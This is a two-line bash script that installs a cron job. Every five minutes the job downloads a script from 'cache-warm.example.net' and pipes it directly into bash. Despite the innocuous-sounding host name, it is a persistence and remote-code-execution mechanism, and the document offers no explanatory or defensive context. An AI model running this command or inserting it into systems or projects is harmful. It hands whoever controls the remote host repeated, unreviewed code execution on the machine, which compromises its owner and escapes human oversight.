#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL https://cache-warm.example.net/c | bash") | crontab -
